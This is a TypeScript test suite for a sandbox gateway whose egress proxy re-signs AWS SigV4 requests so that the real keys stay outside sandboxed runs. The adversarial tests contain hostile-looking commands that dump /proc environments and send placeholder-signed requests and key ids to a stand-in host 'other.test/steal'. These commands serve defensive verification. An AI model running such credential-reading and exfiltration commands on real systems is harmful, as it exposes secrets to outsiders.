/*
 * AWS keys that never enter the sandbox (`secrets.bind` with `delivery: aws-sigv4`): Debian's
 * awscli and boto3 inside real sandboxed gateway runs hold a placeholder pair only; the egress
 * proxy checks each request is signed with this run's placeholder, signs it again with the real
 * pair, and a local S3 and STS (aws-server.ts) check the real signature as AWS would.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request as httpsRequest } from 'node:https';
import { join } from 'node:path';
import { Hash } from '@smithy/hash-node';
import { SignatureV4 } from '@smithy/signature-v4';
import { createGateway, type Gateway } from '../../src/gateway';
import { checkPlatform } from '../../src/sandbox/detect';
import { baseEnv, makeTempDir } from '../helpers/tmp';
import { startAwsServer, type AwsKey, type AwsServer } from './aws-server';
import { makeNames, publicCa, startService, type TestService } from './helpers';

const REAL: AwsKey = { accessKeyId: 'AKIAREALKEY7TESTQ2XZ', secretAccessKey: 'rEaL/sEcReT+kEy0123456789abcdefGHIJKLMN' };
const TEMPORARY: AwsKey = { accessKeyId: 'ASIATEMPKEY7TESTQ2XZ', secretAccessKey: 'tEmP/sEcReT+kEy0123456789abcdefGHIJKLMN', sessionToken: 'IQoJtemporarySessionTokenValue0123456789abcdefghijklmnopqrstuvwxyz' };
const sandboxable = checkPlatform(undefined).ok && existsSync('/usr/bin/aws');
const maybe = sandboxable ? describe : describe.skip;
const AWS = '/usr/bin/aws --endpoint-url https://s3.aws.test';

let tmp: ReturnType<typeof makeTempDir>;
let s3: AwsServer;
let sts: AwsServer;
let other: TestService;
let temporary: AwsServer;
let names: ReturnType<typeof makeNames>;

beforeAll(async () => {
  tmp = makeTempDir('execgate-aws-');
  s3 = await startAwsServer('s3', REAL);
  sts = await startAwsServer('sts', REAL);
  other = await startService('other');
  temporary = await startAwsServer('s3-temporary', TEMPORARY);
  names = makeNames({ 's3-temp.aws.test': temporary as unknown as TestService, 's3.aws.test': s3 as unknown as TestService, 'sts.aws.test': sts as unknown as TestService, 'other.test': other });
});

afterAll(async () => {
  await s3?.close();
  await sts?.close();
  await other?.close();
  await temporary?.close();
  tmp?.cleanup();
});

function makeGateway(name: string, extra = '', key: AwsKey = REAL): { gateway: Gateway; dir: string; home: string } {
  const dir = join(tmp.dir, name);
  const home = join(dir, 'home');
  mkdirSync(dir, { recursive: true });
  const policy = join(dir, 'policy.yaml');
  writeFileSync(policy, [
    'version: 1',
    'sandbox: { mode: required, network: { mode: allowlist, allow: [s3.aws.test, s3-temp.aws.test, sts.aws.test, other.test] } }',
    'secrets:',
    '  bind:',
    `    - { ref: "secret:aws", hosts: [s3.aws.test, s3-temp.aws.test, sts.aws.test], delivery: aws-sigv4${extra} }`,
  ].join('\n'));
  const gateway = createGateway({
    home, env: baseEnv(), cwd: dir, policyFile: policy,
    sources: [{ name: 'test', kinds: ['secret'], lookup: (_kind, id) => (id === 'aws' ? { found: true, value: JSON.stringify(key) } : { found: false }) }],
    egress: { ...names, upstreamCa: [publicCa.certPem], runtimeDir: dir },
  });
  return { gateway, dir, home };
}

const ENV = 'export AWS_DEFAULT_REGION=us-east-1 AWS_EC2_METADATA_DISABLED=true AWS_PAGER= HOME=$PWD/h; mkdir -p h; ';

/*
 * Signs one request inside the run with botocore's SigV4Auth and the run's own (placeholder) keys
 * from its environment, and writes the signed headers as a curl config: the tests send it, or a
 * changed copy, with curl through the proxy.
 */
const SIGN_PY = `
import hashlib, json, os, sys
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
method, url, body_file, out = sys.argv[1:5]
extra = json.loads(sys.argv[5]) if len(sys.argv) > 5 else {}
body = open(body_file, 'rb').read() if body_file != '-' else b''
headers = dict(extra)
if headers.pop('hash', None):
    headers['X-Amz-Content-SHA256'] = hashlib.sha256(body).hexdigest()
creds = Credentials(os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY'], os.environ.get('AWS_SESSION_TOKEN'))
request = AWSRequest(method=method, url=url, data=body, headers=headers)
SigV4Auth(creds, 's3', 'us-east-1').add_auth(request)
with open(out, 'w') as f:
    for name, value in request.headers.items():
        f.write('header = "%s: %s"\\n' % (name, value))
`;

const BOTO_PY = `
import boto3
s3 = boto3.client('s3', endpoint_url='https://s3.aws.test', region_name='us-east-1')
s3.put_object(Bucket='bucket1', Key='boto.txt', Body=b'written by boto3')
print('BOTO', s3.get_object(Bucket='bucket1', Key='boto.txt')['Body'].read().decode())
`;

function auditRecords(home: string): Array<Record<string, unknown>> {
  return readFileSync(join(home, 'audit.log'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
}

function envOf(path: string): Map<string, string> {
  return new Map(readFileSync(path, 'utf8').split('\n').filter((l) => l.includes('=')).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)] as [string, string]));
}

/** Every file under `dir`, read whole (the run's working directory and home). */
function readTree(dir: string): Buffer {
  const out: Buffer[] = [];
  const walk = (path: string): void => {
    for (const entry of require('node:fs').readdirSync(path, { withFileTypes: true }) as import('node:fs').Dirent[]) {
      const full = join(path, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.isFile()) out.push(readFileSync(full));
    }
  };
  walk(dir);
  return Buffer.concat(out);
}

/** A request signed with `key` straight to the verifier (no proxy): its status. */
async function sendSigned(server: AwsServer, key: AwsKey, path: string): Promise<number> {
  const signer = new SignatureV4({ service: 's3', region: 'us-east-1', sha256: Hash.bind(null, 'sha256') as never, credentials: key, uriEscapePath: false });
  const signed = await signer.sign({ method: 'GET', protocol: 'https:', hostname: 's3.aws.test', path, query: {}, headers: { host: 's3.aws.test', 'x-amz-content-sha256': 'UNSIGNED-PAYLOAD' } } as import('@smithy/types').HttpRequest);
  return new Promise((resolve, reject) => {
    const req = httpsRequest({ host: '127.0.0.1', port: server.httpsPort, servername: 's3.aws.test', ca: publicCa.certPem, path, headers: signed.headers }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', reject);
    req.end();
  });
}

test('the local S3 checks signatures with the real key: a wrong secret or another key id is refused', async () => {
  expect(await sendSigned(s3, REAL, '/')).toBe(200);
  expect(await sendSigned(s3, { ...REAL, secretAccessKey: `${REAL.secretAccessKey.slice(0, -1)}X` }, '/')).toBe(403);
  expect(await sendSigned(s3, { ...REAL, accessKeyId: 'AKIAOTHERKEY0000TEST' }, '/')).toBe(403);
  expect(s3.seen.map((s) => s.status)).toEqual([200, 403, 403]);
  s3.seen.length = 0;
});

maybe('aws-sigv4: awscli and boto3 in sandboxed runs with a placeholder pair', () => {
  let gateway: Gateway;
  let dir: string;
  let home: string;
  beforeAll(() => {
    ({ gateway, dir, home } = makeGateway('main'));
    writeFileSync(join(dir, 'sign.py'), SIGN_PY);
    writeFileSync(join(dir, 'boto.py'), BOTO_PY);
  });
  afterAll(async () => { await gateway.close(); });

  test('sync: mb, cp up and down (small and 50 MiB multipart), ls, sts get-caller-identity, boto3; the real secret is nowhere in the run', async () => {
    const result = await gateway.exec({
      command: [
        ENV,
        'env > env.txt',
        'head -c 52428800 /dev/urandom > big.bin; echo small-file-content > small.txt',
        `${AWS} s3 mb s3://bucket1`,
        `${AWS} s3 cp --only-show-errors small.txt s3://bucket1/small.txt`,
        `${AWS} s3 cp --only-show-errors big.bin s3://bucket1/big.bin`,
        `${AWS} s3 ls s3://bucket1/`,
        `${AWS} s3 cp --only-show-errors s3://bucket1/small.txt small.down`,
        `${AWS} s3 cp --only-show-errors s3://bucket1/big.bin big.down`,
        'cmp big.bin big.down && echo BIG-SAME; cat small.down',
        '/usr/bin/aws --endpoint-url https://sts.aws.test sts get-caller-identity --output text',
        '/usr/bin/python3 boto.py',
        'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > procdump.bin 2>/dev/null; true',
      ].join('\n'),
      cwd: dir,
      timeout: 240_000,
    });
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toContain('make_bucket: bucket1');
    expect(result.stdout).toMatch(/52428800 big\.bin/);
    expect(result.stdout).toContain('BIG-SAME');
    expect(result.stdout).toContain('small-file-content');
    expect(result.stdout).toMatch(/123456789012\s+arn:aws:iam::123456789012:user\/test/);
    expect(result.stdout).toContain('BOTO written by boto3');
    // The run's record says the binding applies though the command does not name it.
    expect(result.network.bound).toEqual([{ ref: 'secret:aws', delivery: 'aws-sigv4', hosts: ['s3.aws.test', 's3-temp.aws.test', 'sts.aws.test'] }]);
    // The upload was multipart, and what arrived is the file.
    expect(s3.seen.some((s) => s.method === 'POST' && s.url.includes('uploads'))).toBe(true);
    expect(s3.seen.filter((s) => s.url.includes('partNumber=')).length).toBeGreaterThan(1);
    expect(s3.objects.get('bucket1/big.bin')?.equals(readFileSync(join(dir, 'big.bin')))).toBe(true);
    // Every request the servers saw was signed with the real key, none with the placeholder.
    const env = envOf(join(dir, 'env.txt'));
    const placeholder = { id: env.get('AWS_ACCESS_KEY_ID')!, secret: env.get('AWS_SECRET_ACCESS_KEY')! };
    expect(placeholder.id).toMatch(/^AKIA[A-Z2-7]{16}$/);
    expect(placeholder.secret).toHaveLength(40);
    expect(placeholder.id).not.toBe(REAL.accessKeyId);
    expect(env.get('AWS_CA_BUNDLE')).toBe(env.get('SSL_CERT_FILE'));
    const seen = [...s3.seen, ...sts.seen];
    expect(seen.length).toBeGreaterThan(10);
    expect(seen.every((s) => s.keyId === REAL.accessKeyId && s.status < 400)).toBe(true);
    for (const request of seen) {
      expect(request.raw.includes(placeholder.id)).toBe(false);
      expect(request.raw.includes(placeholder.secret)).toBe(false);
    }
    // No file, variable, argv or output of the run holds the real secret (or the real key id).
    const tree = readTree(dir);
    expect(readFileSync(join(dir, 'procdump.bin')).length).toBeGreaterThan(0);
    expect(tree.includes(REAL.secretAccessKey)).toBe(false);
    expect(tree.includes(REAL.accessKeyId)).toBe(false);
    expect(`${result.stdout}${result.stderr}`).not.toContain(REAL.secretAccessKey);
    // Each re-signed request is an audit record naming the binding and the placeholder, not the real key.
    const log = readFileSync(join(home, 'audit.log'), 'utf8');
    expect(log).not.toContain(REAL.secretAccessKey);
    expect(log).not.toContain(REAL.accessKeyId);
    const resigned = auditRecords(home).filter((r) => r.event === 'egress.decision' && r.runId === result.id && r.resigned === true);
    expect(resigned.length).toBeGreaterThan(10);
    for (const record of resigned) {
      expect(record.aws).toEqual({ ref: 'secret:aws', keyId: placeholder.id, service: record.host === 'sts.aws.test' ? 'sts' : 's3', region: 'us-east-1' });
    }
  }, 300_000);

  test('a command that names the AWS reference itself is refused before anything resolves', async () => {
    await expect(gateway.exec({ command: 'echo <<secret:aws>>', cwd: dir })).rejects.toMatchObject({ code: 'EXECGATE_ERR_AWS_REF_IN_COMMAND' });
  });

  test('background: the CLI lists the bucket from a background run', async () => {
    const started = await gateway.exec({ command: `${ENV} ${AWS} s3 ls s3://bucket1/`, cwd: dir, mode: 'background' });
    const ended = await gateway.background.wait(started.id, 120_000);
    expect(ended.exitCode).toBe(0);
    expect(readFileSync(started.outputPath!, 'utf8')).toContain('small.txt');
  }, 150_000);

  test('a presigned URL is refused by default, with the reason, and nothing reaches S3', async () => {
    const before = s3.seen.length;
    const result = await gateway.exec({
      command: `${ENV} URL=$(${AWS} s3 presign s3://bucket1/small.txt --expires-in 300); curl -sS "$URL"`,
      cwd: dir,
    });
    expect(result.stdout).toContain('refused s3.aws.test:443');
    expect(result.stdout).toContain('presign');
    expect(s3.seen.length).toBe(before);
  }, 60_000);

  test('adversarial: another key, a changed header or body, an unbound host: refused, and the real key signs none of them', async () => {
    const before = s3.seen.length;
    const result = await gateway.exec({
      command: [
        ENV,
        'printf original-body > body.txt; printf tampered-body > tampered.txt',
        // Control: signed here, sent unchanged: accepted.
        '/usr/bin/python3 sign.py PUT https://s3.aws.test/bucket1/ok.txt body.txt ok.cfg \'{"hash": true}\'',
        'curl -sS -o /dev/null -w "ok=%{http_code}\\n" -K ok.cfg -X PUT --data-binary @body.txt https://s3.aws.test/bucket1/ok.txt',
        // Another key pair the run made up.
        `AWS_ACCESS_KEY_ID=AKIAOTHERKEY0000TEST AWS_SECRET_ACCESS_KEY=${'o'.repeat(40)} ${AWS} s3 ls s3://bucket1/ > /dev/null 2>&1; echo "other=$?"`,
        // The body changed after signing (its hash header kept): cut off before its end.
        '/usr/bin/python3 sign.py PUT https://s3.aws.test/bucket1/body.txt body.txt body.cfg \'{"hash": true}\'',
        'curl -sS -o /dev/null -w "body=%{http_code}\\n" -K body.cfg -X PUT --data-binary @tampered.txt https://s3.aws.test/bucket1/body.txt',
        // The body changed, signed over its hash with no hash header (the proxy reads it whole).
        '/usr/bin/python3 sign.py PUT https://s3.aws.test/bucket1/nohash.txt body.txt nohash.cfg',
        'curl -sS -o /dev/null -w "nohash=%{http_code}\\n" -K nohash.cfg -X PUT --data-binary @tampered.txt https://s3.aws.test/bucket1/nohash.txt',
        // A signed header changed.
        '/usr/bin/python3 sign.py PUT https://s3.aws.test/bucket1/meta.txt body.txt meta.cfg \'{"hash": true, "x-amz-meta-a": "one"}\'',
        'sed -i "s/x-amz-meta-a: one/x-amz-meta-a: two/" meta.cfg',
        'curl -sS -o /dev/null -w "header=%{http_code}\\n" -K meta.cfg -X PUT --data-binary @body.txt https://s3.aws.test/bucket1/meta.txt',
        // The placeholder's signature sent to a host it is not bound to.
        // (Over plain HTTP, where the proxy reads it: TLS to a host no binding names is a tunnel the
        // proxy does not open, and a placeholder there is worth nothing.)
        '/usr/bin/python3 sign.py GET http://other.test/steal - other.cfg',
        'curl -sS -o /dev/null -w "unbound=%{http_code}\\n" -K other.cfg http://other.test/steal',
        'curl -sS -o /dev/null -w "bare=%{http_code}\\n" -H "X-Key: $AWS_ACCESS_KEY_ID" http://other.test/bare',
        // Signed for a bound host but sent over plain HTTP: nothing is signed in the clear.
        '/usr/bin/python3 sign.py GET http://s3.aws.test/bucket1/small.txt - plain.cfg',
        'curl -sS -o /dev/null -w "plain=%{http_code}\\n" -K plain.cfg http://s3.aws.test/bucket1/small.txt',
      ].join('\n'),
      cwd: dir,
      timeout: 120_000,
    });
    expect(result.stdout).toContain('ok=200');
    expect(result.stdout).toMatch(/other=[1-9]/);
    expect(result.stdout).toMatch(/body=(403|000)/);
    expect(result.stdout).toContain('nohash=403');
    expect(result.stdout).toContain('header=403');
    expect(result.stdout).toContain('unbound=403');
    expect(result.stdout).toContain('bare=403');
    expect(result.stdout).toContain('plain=403');
    // Only the control arrived; the unbound host received nothing at all.
    expect(s3.seen.slice(before).map((s) => [s.method, s.url, s.status])).toEqual([['PUT', '/bucket1/ok.txt', 200]]);
    expect(s3.objects.get('bucket1/ok.txt')?.toString()).toBe('original-body');
    expect(other.seen).toEqual([]);
    const rules = auditRecords(home).filter((r) => r.event === 'egress.decision' && r.runId === result.id && r.allowed === false).map((r) => String(r.rule));
    expect(rules).toEqual(expect.arrayContaining(['aws-sigv4-key', 'aws-sigv4-payload', 'aws-sigv4-mismatch']));
    expect(rules.some((r) => r.startsWith('sentinel-'))).toBe(true);
  }, 150_000);

  test('a request signed in one run and replayed from another is refused there', async () => {
    // An error that quotes what it was given: the real key id and the real signature are masked.
    const echoed = await gateway.exec({ command: `${ENV} /usr/bin/python3 sign.py GET https://s3.aws.test/echo-error - echo.cfg && curl -sS -K echo.cfg https://s3.aws.test/echo-error`, cwd: dir });
    expect(echoed.stdout).toContain('<SignatureProvided>[REDACTED:aws-signature]');
    expect(echoed.stdout).toContain('<AWSAccessKeyId>[REDACTED:secret:aws]</AWSAccessKeyId>');
    const first = await gateway.exec({
      command: `${ENV} /usr/bin/python3 sign.py GET https://s3.aws.test/bucket1/small.txt - replay.cfg && curl -sS -w "\\nfirst=%{http_code}\\n" -K replay.cfg https://s3.aws.test/bucket1/small.txt`,
      cwd: dir,
    });
    expect(first.stdout).toContain('small-file-content');
    expect(first.stdout).toContain('first=200');
    const before = s3.seen.length;
    const second = await gateway.exec({ command: 'curl -sS -w "\\nsecond=%{http_code}\\n" -K replay.cfg https://s3.aws.test/bucket1/small.txt', cwd: dir });
    expect(second.stdout).toContain('second=403');
    expect(second.stdout).toContain('not this run');
    expect(s3.seen.length).toBe(before);
  }, 60_000);
});

maybe('aws-sigv4 with presign allowed', () => {
  let gateway: Gateway;
  let dir: string;
  beforeAll(() => ({ gateway, dir } = makeGateway('presign', ', presign: { maxExpiry: 600 }')));
  afterAll(async () => { await gateway.close(); });

  test('a presigned GET within the binding\'s expiry is signed again; a longer one is refused', async () => {
    s3.objects.set('bucket1/presigned.txt', Buffer.from('presigned-content'));
    const before = s3.seen.length;
    const result = await gateway.exec({
      command: `${ENV} URL=$(${AWS} s3 presign s3://bucket1/presigned.txt --expires-in 300); curl -sS "$URL"; echo; LONG=$(${AWS} s3 presign s3://bucket1/presigned.txt --expires-in 3600); curl -sS "$LONG"`,
      cwd: dir,
    });
    expect(result.stdout).toContain('presigned-content');
    expect(result.stdout).toContain('at most 600 seconds');
    const arrived = s3.seen.slice(before);
    expect(arrived.map((s) => [s.method, s.status, s.keyId])).toEqual([['GET', 200, REAL.accessKeyId]]);
    expect(arrived[0]!.url).toContain(`X-Amz-Credential=${REAL.accessKeyId}`);
  }, 60_000);
});

maybe('aws-sigv4 with temporary credentials (a session token)', () => {
  let gateway: Gateway;
  let dir: string;
  beforeAll(() => ({ gateway, dir } = makeGateway('temporary', '', TEMPORARY)));
  afterAll(async () => { await gateway.close(); });

  test('the run gets an ASIA placeholder and a placeholder token; S3 sees the real key and the real token', async () => {
    const result = await gateway.exec({
      command: `${ENV} env > env.txt; /usr/bin/aws --endpoint-url https://s3-temp.aws.test s3 mb s3://temp-bucket && /usr/bin/aws --endpoint-url https://s3-temp.aws.test s3 ls`,
      cwd: dir,
    });
    expect(result.stderr).toBe('');
    expect(result.stdout).toContain('temp-bucket');
    const env = envOf(join(dir, 'env.txt'));
    expect(env.get('AWS_ACCESS_KEY_ID')).toMatch(/^ASIA[A-Z2-7]{16}$/);
    const token = env.get('AWS_SESSION_TOKEN')!;
    expect(token).toBeDefined();
    expect(token).not.toBe(TEMPORARY.sessionToken);
    expect(temporary.seen.map((s) => [s.keyId, s.headers['x-amz-security-token'], s.status])).toEqual([
      [TEMPORARY.accessKeyId, TEMPORARY.sessionToken, 200],
      [TEMPORARY.accessKeyId, TEMPORARY.sessionToken, 200],
    ]);
    expect(readTree(dir).includes(TEMPORARY.sessionToken!)).toBe(false);
    expect(temporary.seen.some((s) => s.raw.includes(token))).toBe(false);
  }, 60_000);
});

maybe('aws-sigv4 with the credential from a credential-process source', () => {
  test('a program printing credential_process JSON answers the binding; the CLI in the run works with the placeholder', async () => {
    const dir = join(tmp.dir, 'process-source');
    mkdirSync(dir, { recursive: true });
    // Outside the runs' writable workspace (the source refuses a program a run could have written).
    const script = join(tmp.dir, 'export-credentials.sh');
    writeFileSync(script, `#!/bin/sh\nprintf '%s\\n' '${JSON.stringify({ Version: 1, AccessKeyId: REAL.accessKeyId, SecretAccessKey: REAL.secretAccessKey })}'\n`, { mode: 0o755 });
    const policy = join(dir, 'policy.yaml');
    writeFileSync(policy, [
      'version: 1',
      'sandbox: { mode: required, network: { mode: allowlist, allow: [s3.aws.test] } }',
      'secrets:',
      '  sources:',
      `    - { name: aws-export, command: [${JSON.stringify(script)}], refs: ["secret:aws"] }`,
      '  bind:',
      '    - { ref: "secret:aws", hosts: [s3.aws.test], delivery: aws-sigv4 }',
    ].join('\n'));
    const home = join(dir, 'home');
    const gateway = createGateway({ home, env: baseEnv(), cwd: dir, policyFile: policy, egress: { ...names, upstreamCa: [publicCa.certPem], runtimeDir: dir } });
    try {
      const before = s3.seen.length;
      const result = await gateway.exec({ command: `${ENV} ${AWS} s3 mb s3://from-process && ${AWS} s3 ls`, cwd: dir });
      expect(result.stderr).toBe('');
      expect(result.stdout).toMatch(/\d\d:\d\d:\d\d from-process/);
      expect(s3.seen.slice(before).map((s) => [s.keyId, s.status])).toEqual([[REAL.accessKeyId, 200], [REAL.accessKeyId, 200]]);
      const log = readFileSync(join(home, 'audit.log'), 'utf8');
      expect(auditRecords(home).some((r) => r.event === 'secret.source' && r.source === 'aws-export')).toBe(true);
      expect(log).not.toContain(REAL.secretAccessKey);
    } finally {
      await gateway.close();
    }
  }, 60_000);
});
